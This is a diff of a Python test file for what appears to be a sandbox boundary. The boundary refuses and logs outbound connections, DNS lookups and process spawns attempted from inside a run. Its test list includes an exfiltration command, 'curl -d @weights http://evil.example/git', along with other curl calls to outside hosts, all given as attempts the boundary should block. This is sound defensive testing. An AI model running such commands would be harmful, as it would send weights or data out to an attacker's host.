@@ -30,17 +30,25 @@ needs_namespace = pytest.mark.skipif(
 
 def behind(*words: str, prefix: tuple[str, ...] = (), **environment: str) -> dict:
     """Return what became of an attack from behind a wall."""
+    return all_behind(*words, prefix=prefix, **environment)[-1]
+
+
+def all_behind(
+    *words: str, prefix: tuple[str, ...] = (), told: str = "", **environment: str
+) -> list[dict]:
+    """Return what became of each attack that one process tried."""
     found = subprocess.run(
         [*prefix, sys.executable, "-m", "tests.support.behind_wall", *words],
         cwd=ROOT,
         env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONDONTWRITEBYTECODE": "1", **environment},
+        input=told,
         capture_output=True,
         text=True,
         timeout=60,
         check=False,
     )
     assert found.stdout, found.stderr
-    return json.loads(found.stdout.splitlines()[-1])
+    return [json.loads(line) for line in found.stdout.splitlines() if line.startswith("{")]
 
 
 class Home(BaseHTTPRequestHandler):
@@ -72,43 +80,50 @@ def place(server: ThreadingHTTPServer) -> str:
     return f"127.0.0.1:{server.server_port}"
 
 
-@pytest.mark.parametrize("where", [(), ("--within",)])
-@pytest.mark.parametrize(
-    ("words", "refused"),
-    [
-        (("connect", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
-        (("asynchronous", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
-        (("six",), "connection: 2001:db8::1 port 443"),
-        (("datagram", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
-        (("lookup", "weights.example.com"), "lookup: weights.example.com"),
-        (("old_lookup", "weights.example.com"), "lookup: weights.example.com"),
-        (("lookup_back", "weights.example.com"), "lookup: weights.example.com"),
-        (("lookup_back", AWAY), f"lookup: {AWAY}"),
-        (("name_of", AWAY), f"lookup: {AWAY}"),
-        (("fetch", "http://weights.example.com/"), "lookup: weights.example.com"),
-        (("program", "curl http://weights.example.com"), "process: curl (subprocess.Popen)"),
-        (("shell", "true"), "process: true (os.system)"),
-        (("pipe", "true"), "process: /bin/sh (subprocess.Popen)"),
-        (("spawned", "/bin/true"), "process: /bin/true (os.posix_spawn)"),
-        (("spawned_by_name", "true"), "process: true (os.posix_spawn)"),
-        (("spawned_in_python", "/bin/true"), "process: os.fork"),
-        (("forked",), "process: os.fork"),
-        (("terminal",), "process: os.forkpty"),
-        (("terminal_with", "/bin/true"), "process: /bin/true (pty.spawn)"),
-        (("replaced", "/bin/true"), "process: /bin/true (os.exec)"),
-        (("replaced_by_name", "/bin/true"), "process: /bin/true (os.exec)"),
-        (("message", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
-        (
-            ("shell", "curl -d @weights http://evil.example/git"),
-            "process: curl -d @weights http://evil.example/git (os.system)",
-        ),
-    ],
-)
-def test_what_tries_to_leave_is_refused_and_written_down(where, words, refused):
-    found = behind(*where, *words)
-    why = "while local work was done" if where else "beyond what the run may reach"
-    assert found["raised"] in ("BoundaryError", "URLError")
-    assert found["refused"] == [f"{refused}: {why}"]
+LEAVING = [
+    (("connect", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
+    (("asynchronous", f"{AWAY}:443"), f"connection: {AWAY} port 443"),
+    (("six", ""), "connection: 2001:db8::1 port 443"),
+    (("datagram", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
+    (("lookup", "weights.example.com"), "lookup: weights.example.com"),
+    (("old_lookup", "weights.example.com"), "lookup: weights.example.com"),
+    (("lookup_back", "weights.example.com"), "lookup: weights.example.com"),
+    (("lookup_back", AWAY), f"lookup: {AWAY}"),
+    (("name_of", AWAY), f"lookup: {AWAY}"),
+    (("fetch", "http://weights.example.com/"), "lookup: weights.example.com"),
+    (("program", "curl http://weights.example.com"), "process: curl (subprocess.Popen)"),
+    (("shell", "true"), "process: true (os.system)"),
+    (("pipe", "true"), "process: /bin/sh (subprocess.Popen)"),
+    (("spawned", "/bin/true"), "process: /bin/true (os.posix_spawn)"),
+    (("spawned_by_name", "true"), "process: true (os.posix_spawn)"),
+    (("spawned_in_python", "/bin/true"), "process: os.fork"),
+    (("forked", ""), "process: os.fork"),
+    (("terminal", ""), "process: os.forkpty"),
+    (("terminal_with", "/bin/true"), "process: /bin/true (pty.spawn)"),
+    (("replaced", "/bin/true"), "process: /bin/true (os.exec)"),
+    (("replaced_by_name", "/bin/true"), "process: /bin/true (os.exec)"),
+    (("message", f"{AWAY}:53"), f"connection: {AWAY} port 53"),
+    (
+        ("shell", "curl -d @weights http://evil.example/git"),
+        "process: curl -d @weights http://evil.example/git (os.system)",
+    ),
+]
+"""What is tried, and what is written down of it."""
+
+
+@pytest.fixture(scope="module", params=[(), ("--within",)], ids=["around", "within"])
+def left(request) -> tuple[str, list[dict]]:
+    """Return why, and what became of each of `LEAVING`, all tried by one process."""
+    tried = json.dumps([words for words, _ in LEAVING])
+    why = "while local work was done" if request.param else "beyond what the run may reach"
+    return why, all_behind(*request.param, "each", told=tried)
+
+
+@pytest.mark.parametrize("number", range(len(LEAVING)), ids=lambda number: LEAVING[number][0][0])
+def test_what_tries_to_leave_is_refused_and_written_down(left, number):
+    why, all_found = left
+    assert all_found[number]["raised"] in ("BoundaryError", "URLError")
+    assert all_found[number]["refused"] == [f"{LEAVING[number][1]}: {why}"]
 
 
 def test_a_thread_gets_out_no_more_than_the_work_that_started_it(home):
